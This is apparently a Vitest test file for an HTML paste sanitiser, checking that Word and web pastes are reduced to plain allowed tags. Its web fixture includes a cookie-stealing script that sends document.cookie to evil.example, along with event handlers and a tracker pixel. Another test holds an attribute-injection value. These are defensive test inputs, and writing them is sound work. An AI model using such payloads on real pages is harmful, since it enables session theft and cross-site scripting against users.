// @vitest-environment jsdom
// The sanitiser reads the paste with DOMParser, as the minutes do in the browser; jsdom gives the
// test the same HTML parser (parse5, the WHATWG algorithm).
import { describe, it, expect } from 'vitest';
import { sanitisePastedHtml } from '../../../../renderer/features/minutes/pasteSanitiser';

// What Word 2016+ puts on the clipboard (abridged, but with its real quirks).
const WORD = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15">
<style><!-- /* Font Definitions */ @font-face {font-family:"Cambria Math";} p.MsoNormal {mso-style-parent:""; margin:0cm; font-size:11.0pt;} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
</head>
<body lang=EN-GB style='tab-interval:36.0pt;word-wrap:break-word'>
<!--StartFragment-->
<h1 style='mso-margin-top-alt:auto'><span style='mso-fareast-font-family:"Times New Roman"'>Police update<o:p></o:p></span></h1>
<p class=MsoNormal><b style='mso-bidi-font-weight:normal'><span style='font-size:12.0pt'>DC Patel</span></b><span style='font-size:12.0pt'> said the <i>investigation</i> is ongoing.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><!--[if !supportLists]--><span style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]-->First worry<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><!--[if !supportLists]--><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp; </span></span></span><!--[endif]-->Second worry<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>Step one<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>2.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>Step two<o:p></o:p></p>
<p class=MsoQuote><i>“I just want them home”</i><o:p></o:p></p>
<p class=MsoNormal><!--[if gte vml 1]><v:shape id="Picture_x0020_1" style='width:100pt'><v:imagedata src="file:///C:/Users/x/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png" o:title=""/></v:shape><![endif]--><![if !vml]><img width=133 height=100 src="file:///C:/Users/x/AppData/Local/Temp/msohtmlclip1/01/clip_image002.png" v:shapes="Picture_x0020_1"><![endif]>After the picture</p>
<!--EndFragment-->
</body></html>`;

// A web page fragment: scripts, a tracking pixel, links, classes and inline styles.
const WEB = `<meta charset="utf-8"><div class="article" id="main" style="color:red" onclick="steal()">
<h2 class="title">Housing options</h2>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p>Call <a href="https://example.org/housing" target="_blank">the housing team</a> on <strong class="x">Monday</strong>.</p>
<img src="https://tracker.example/pixel.gif?id=123" width="1" height="1" alt="">
<ul data-v="1"><li style="margin:0">Bidding <em>opens</em></li><li>Priority <span style="font-weight:700">band B</span></li></ul>
<blockquote cite="x"><p>Quoted text</p></blockquote>
<iframe src="https://ads.example/"></iframe><noscript><img src="https://tracker.example/ns.gif"></noscript>
<p onmouseover="x()">Line one<br>Line two</p>
</div>`;

describe('sanitisePastedHtml: Word', () => {
  const out = sanitisePastedHtml(WORD);

  it('keeps headings, bold, italic and quotes as plain tags', () => {
    expect(out).toContain('<h2>Police update</h2>');
    expect(out).toContain('<p><strong>DC Patel</strong> said the <em>investigation</em> is ongoing.</p>');
    expect(out).toContain('<em>“I just want them home”</em>');
  });
  it('rebuilds Word bullet and numbered lists and drops the typed bullets', () => {
    expect(out).toContain('<ul><li><p>First worry</p></li><li><p>Second worry</p></li></ul>');
    expect(out).toContain('<ol><li><p>Step one</p></li><li><p>Step two</p></li></ol>');
    expect(out).not.toContain('·');
  });
  it('keeps the levels of a nested Word list, and a switch from bullets to numbers within a level', () => {
    const item = (level: number, text: string, bullet = '·') =>
      `<p class=MsoListParagraphCxSpMiddle style='margin-left:${36 * level}pt;mso-list:l0 level${level} lfo1'><![if !supportLists]><span>${bullet}<span>&nbsp; </span></span><![endif]>${text}<o:p></o:p></p>`;
    const html = [item(1, 'Housing'), item(2, 'Rent arrears'), item(3, 'Since June'), item(2, 'Repairs'), item(1, 'School'), item(2, 'Attendance', '1.'), item(2, 'Lateness', '2.')].join('\n');
    expect(sanitisePastedHtml(html)).toBe(
      '<ul><li><p>Housing</p><ul><li><p>Rent arrears</p><ul><li><p>Since June</p></li></ul></li><li><p>Repairs</p></li></ul></li>' +
        '<li><p>School</p><ol><li><p>Attendance</p></li><li><p>Lateness</p></li></ol></li></ul>',
    );
  });

  it('drops styles, classes, Office XML, conditional comments, images and spacer paragraphs', () => {
    for (const bad of ['mso-', 'class=', 'style', '<o:p', '<v:', '<w:', '<xml', '<img', 'clip_image', '[if', '<!--', 'Font Definitions', 'Normal</']) {
      expect(out).not.toContain(bad);
    }
    expect(out).toContain('<p>After the picture</p>');
    expect(out).not.toMatch(/<p>(\s|&nbsp;)*<\/p>/);
  });
});

describe('sanitisePastedHtml: web page', () => {
  const out = sanitisePastedHtml(WEB);

  it('drops scripts, images, iframes, links, attributes and event handlers', () => {
    for (const bad of ['<script', 'evil', 'cookie', '<img', 'tracker', '<iframe', '<a', 'href', 'onclick', 'onmouseover', 'class=', 'style=', 'data-v', 'cite=', '<meta', '<noscript']) {
      expect(out).not.toContain(bad);
    }
  });
  it('keeps the words and the allowed structure', () => {
    expect(out).toContain('<h2>Housing options</h2>');
    expect(out).toContain('<p>Call the housing team on <strong>Monday</strong>.</p>');
    expect(out).toContain('<ul><li>Bidding <em>opens</em></li><li>Priority <strong>band B</strong></li></ul>');
    expect(out).toContain('<blockquote><p>Quoted text</p></blockquote>');
    expect(out).toContain('<p>Line one<br>Line two</p>');
  });
});

describe('sanitisePastedHtml: other sources', () => {
  it('does not make Google Docs pastes bold', () => {
    const gdocs = '<b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr"><span style="font-weight:400">Plain</span> <span style="font-weight:700;font-style:italic">both</span></p></b>';
    expect(sanitisePastedHtml(gdocs)).toBe('<p>Plain <strong><em>both</em></strong></p>');
  });
  it('keeps the minutes’ own restricted marks and chips, with only their own attributes', () => {
    const own = '<p><span data-cs-speaker="sw1" class="chip" onclick="x()">Sam</span> said <span data-cs-restricted="r1" style="x">secret</span> <span data-cs-time="10:42" data-cs-elapsed="12">10:42</span></p><div data-cs-live="decision" data-cs-child="c1"></div>';
    expect(sanitisePastedHtml(own)).toBe(
      '<p><span data-cs-speaker="sw1">Sam</span> said <span data-cs-restricted="r1">secret</span> <span data-cs-time="10:42" data-cs-elapsed="12">10:42</span></p><div data-cs-live="decision" data-cs-child="c1"></div>',
    );
  });
  it('refuses a malformed id in our own markup', () => {
    expect(sanitisePastedHtml('<span data-cs-restricted="&quot;><img src=x>">x</span>')).toBe('x');
  });
  it('escapes stray angle brackets in text and closes unclosed tags', () => {
    expect(sanitisePastedHtml('<p>a < b and <b>bold')).toBe('<p>a &lt; b and <strong>bold</strong></p>');
  });
});

describe('sanitisePastedHtml: read as the browser reads it', () => {
  it('untangles misnested bold and italic instead of writing them crossed', () => {
    expect(sanitisePastedHtml('<p><b>bold <i>both</b> italic</i></p>')).toBe('<p><strong>bold <em>both</em></strong><em> italic</em></p>');
  });
  it('keeps the words after "<!--" written inside an attribute', () => {
    expect(sanitisePastedHtml('<p title="<!--">One</p><p>Two</p><!-- a comment -->')).toBe('<p>One</p><p>Two</p>');
  });
  it('writes entities back as text, never as markup', () => {
    expect(sanitisePastedHtml('<p>Tom &amp; Jerry &lt;img src=x&gt; &quot;q&quot; &#169;</p>')).toBe('<p>Tom &amp; Jerry &lt;img src=x&gt; "q" ©</p>');
  });
});
